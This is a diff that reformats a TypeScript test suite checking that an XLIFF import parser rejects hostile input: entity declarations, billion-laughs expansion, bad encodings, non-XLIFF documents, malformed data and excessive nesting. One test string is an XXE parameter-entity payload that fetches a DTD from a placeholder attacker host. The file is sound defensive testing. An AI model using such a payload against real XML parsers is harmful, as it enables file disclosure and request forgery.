@@ -14,7 +14,9 @@ describe("XLIFF import refuses hostile input", () => {
     expect(thrown(() => parseXliff(xxe)).code).toBe("XLIFF_DOCTYPE_FORBIDDEN");
     expect(thrown(() => parseXliff(enc(xxe))).code).toBe("XLIFF_DOCTYPE_FORBIDDEN");
     // Parameter entities and lower-case spelling too.
-    expect(thrown(() => parseXliff(doc(`<!doctype x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>`))).code).toBe("XLIFF_DOCTYPE_FORBIDDEN");
+    expect(
+      thrown(() => parseXliff(doc(`<!doctype x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>`))).code,
+    ).toBe("XLIFF_DOCTYPE_FORBIDDEN");
   });
 
   it("billion laughs → XLIFF_DOCTYPE_FORBIDDEN, quickly", () => {
@@ -38,12 +40,18 @@ describe("XLIFF import refuses hostile input", () => {
   });
 
   it("Latin-1 bytes declared as ISO-8859-1 → XLIFF_BAD_ENCODING", () => {
-    const latin1 = doc("", `<unit id="u"><segment><source>Hà</source><target>Grüße</target></segment></unit>`).replace("UTF-8", "ISO-8859-1");
+    const latin1 = doc("", `<unit id="u"><segment><source>Hà</source><target>Grüße</target></segment></unit>`).replace(
+      "UTF-8",
+      "ISO-8859-1",
+    );
     const bytes = Uint8Array.from(latin1, (c) => c.charCodeAt(0) & 0xff);
     expect(thrown(() => parseXliff(bytes)).code).toBe("XLIFF_BAD_ENCODING");
     // Even when every byte is ASCII (so it decodes), the declaration itself is refused: we do not transcode.
     const ascii = doc("", `<unit id="u"><segment><source>Ha</source></segment></unit>`).replace("UTF-8", "ISO-8859-1");
-    expect(thrown(() => parseXliff(enc(ascii)))).toEqual({ code: "XLIFF_BAD_ENCODING", params: { encoding: "iso-8859-1" } });
+    expect(thrown(() => parseXliff(enc(ascii)))).toEqual({
+      code: "XLIFF_BAD_ENCODING",
+      params: { encoding: "iso-8859-1" },
+    });
     expect(thrown(() => parseXliff(ascii.replace("ISO-8859-1", "windows-1258"))).code).toBe("XLIFF_BAD_ENCODING");
   });
 
@@ -56,14 +64,19 @@ describe("XLIFF import refuses hostile input", () => {
   });
 
   it("XML that is not XLIFF → XLIFF_NOT_XLIFF with the root name", () => {
-    expect(thrown(() => parseXliff(`<?xml version="1.0"?><tmx version="1.4"><header/><body/></tmx>`))).toEqual({ code: "XLIFF_NOT_XLIFF", params: { root: "tmx" } });
-    expect(thrown(() => parseXliff(`<xliff xmlns="http://example.com/not-oasis" version="2.1"/>`)).code).toBe("XLIFF_NOT_XLIFF");
+    expect(thrown(() => parseXliff(`<?xml version="1.0"?><tmx version="1.4"><header/><body/></tmx>`))).toEqual({
+      code: "XLIFF_NOT_XLIFF",
+      params: { root: "tmx" },
+    });
+    expect(thrown(() => parseXliff(`<xliff xmlns="http://example.com/not-oasis" version="2.1"/>`)).code).toBe(
+      "XLIFF_NOT_XLIFF",
+    );
     expect(thrown(() => parseXliff(renderExport(publishedDoc(), "html").body)).code).toBe("XLIFF_DOCTYPE_FORBIDDEN");
   });
 
   it("garbage and broken XML → XLIFF_MALFORMED with the line", () => {
     expect(thrown(() => parseXliff("PK\u0003\u0004 this is a zip, not XML")).code).toBe("XLIFF_MALFORMED");
-    expect(thrown(() => parseXliff(enc("{\"segments\": []}"))).code).toBe("XLIFF_MALFORMED");
+    expect(thrown(() => parseXliff(enc('{"segments": []}'))).code).toBe("XLIFF_MALFORMED");
     expect(thrown(() => parseXliff(new Uint8Array(0))).code).toBe("XLIFF_MALFORMED");
     const truncated = renderExport(publishedDoc(), "xliff21").body.split("\n").slice(0, 12).join("\n");
     expect(thrown(() => parseXliff(truncated)).code).toBe("XLIFF_MALFORMED");
@@ -72,7 +85,10 @@ describe("XLIFF import refuses hostile input", () => {
   });
 
   it("absurd nesting → XLIFF_TOO_DEEP, no stack overflow", () => {
-    const deep = doc("", `<unit id="u"><segment><source>${"<pc id=\"1\">".repeat(5000)}x${"</pc>".repeat(5000)}</source></segment></unit>`);
+    const deep = doc(
+      "",
+      `<unit id="u"><segment><source>${'<pc id="1">'.repeat(5000)}x${"</pc>".repeat(5000)}</source></segment></unit>`,
+    );
     expect(thrown(() => parseXliff(deep)).code).toBe("XLIFF_TOO_DEEP");
   });
 
